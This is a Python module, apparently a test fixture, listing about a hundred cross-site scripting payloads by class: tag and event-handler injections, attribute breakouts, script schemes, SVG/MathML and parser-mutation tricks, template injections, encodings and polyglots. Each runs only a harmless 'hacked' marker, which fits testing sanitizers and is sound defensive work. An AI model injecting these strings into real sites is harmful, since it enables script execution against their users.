"""A hundred texts that make a careless browser run a script, by the well-known classes.

`RUN` is what each tries to run. A browser that ran one has `window.hacked`, and a message on its console.
"""

RUN = "(window.hacked=window.hacked||[]).push(0),console.log('hacked')"
SHORT = "hacked=[1]"

TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script src=data:text/javascript,{SHORT}></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={SHORT}>",
    f"<img/src=x/onerror={SHORT}>",
    f'<img src=x onerror="{RUN}">',
    f"<image src=x onerror={SHORT}>",
    f"<body onload={SHORT}>",
    f"<body/onpageshow={SHORT}>",
    f"<iframe src=javascript:parent.{SHORT}>",
    f"<iframe srcdoc='<script>parent.{SHORT}</script>'>",
    f"<iframe onload={SHORT}>",
    f"<object data=javascript:{SHORT}>",
    f"<object data='data:text/html,<script>parent.{SHORT}</script>'>",
    f"<embed src=javascript:{SHORT}>",
    f"<video><source onerror={SHORT}>",
    f"<audio src=x onerror={SHORT}>",
    f"<video src=x onerror={SHORT}>",
    f"<details open ontoggle={SHORT}>x",
    f"<input autofocus onfocus={SHORT}>",
    f"<select autofocus onfocus={SHORT}>",
    f"<textarea autofocus onfocus={SHORT}>",
    f"<button autofocus onfocus={SHORT}>x",
    f"<marquee onstart={SHORT}>x",
    f"<p style=animation-name:x onanimationstart={SHORT}>x",
    f"<link rel=stylesheet href=data:text/css,x onload={SHORT}>",
    f"<style onload={SHORT}></style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SHORT}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,hacked'>",
    f"<base href=javascript:/{SHORT}//>",
    f"<form action=javascript:{SHORT}><input type=submit autofocus></form>",
    f"<isindex action=javascript:{SHORT} type=submit>",
    f"<a id=x tabindex=1 autofocus onfocus={SHORT}>x",
    f"<x onfocus={SHORT} id=main tabindex=1 autofocus>x",
    f"<dialog open onclose={SHORT}><form method=dialog><button>x",
)
ATTRIBUTES = (
    f'" onmouseover="{SHORT}" x="',
    f"' onmouseover='{SHORT}' x='",
    f'" autofocus onfocus="{SHORT}" x="',
    f"' autofocus onfocus='{SHORT}' x='",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'"/><img src=x onerror={SHORT}>',
    f"`><img src=x onerror={SHORT}>",
    f" onload={SHORT} ",
    f"x onerror={SHORT} src=x",
    f'" style="animation-name:x" onanimationstart="{SHORT}',
    f'"]}};{RUN}//',
    f"';{RUN};'",
    f'";{RUN};"',
    f"*/{RUN}/*",
    f"\\';{RUN};//",
    f"-->\n<script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
)
SCHEMES = (
    f"javascript:{SHORT}",
    f"JaVaScRiPt:{SHORT}",
    f" javascript:{SHORT}",
    f"java\tscript:{SHORT}",
    f"java\nscript:{SHORT}",
    f"\x01javascript:{SHORT}",
    f"javascript://%0a{SHORT}",
    f"javascript&colon;{SHORT}",
    f"&#106;avascript:{SHORT}",
    f"data:text/html,<script>opener.{SHORT}</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPVsxXTwvc2NyaXB0Pg==",
    f"vbscript:{SHORT}",
    f"//x.test/'onclick='{SHORT}",
    f'http://x.test/"onclick="{SHORT}',
    f"view-source:javascript:{SHORT}",
    f"blob:javascript:{SHORT}",
)
FOREIGN = (
    f"<svg onload={SHORT}>",
    f"<svg/onload={SHORT}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{SHORT} /></svg>",
    f"<svg><animate onbegin={SHORT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={SHORT}>",
    f"<svg><a xlink:href=javascript:{SHORT}><text x=9 y=9>x</text></a></svg>",
    f"<svg><foreignObject><body onload={SHORT}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={SHORT}>#x'></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SHORT}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{SHORT}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
)
MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={SHORT}>'>",
    f"<template><script>{RUN}</script></template>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</iframe></noembed></noframes></xmp><script>{RUN}</script>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={SHORT}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={SHORT}>'>",
    f"<listing>&lt;img src=x onerror={SHORT}&gt;</listing>",
    f"<!--><img src=x onerror={SHORT}>-->",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{SHORT}')()}}}}",
    f"${{{SHORT}}} {{% raw %}} {{{{7*7}}}} <%= {SHORT} %>",
    f"[[${{{SHORT}}}]] #{{{SHORT}}}",
)
ENCODINGS = (
    f"%3Cscript%3E{SHORT}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{SHORT}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<script>\u2028{RUN}\u2029</script>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    "<img src=x onerror=&#104;acked=[1]>",
    f"\u202e<script>{RUN}</script>",
)
POLYGLOTS = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={SHORT} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={SHORT}//>\\x3e",
    f"'\"><img src=x onerror={SHORT}><script>{RUN}</script>javascript:{SHORT}",
    f"\"'--></style></script><svg onload={SHORT}>",
)
PAYLOADS = (
    *TAGS, *ATTRIBUTES, *SCHEMES, *FOREIGN, *MUTATIONS, *TEMPLATES, *ENCODINGS, *POLYGLOTS,
)  # fmt: skip
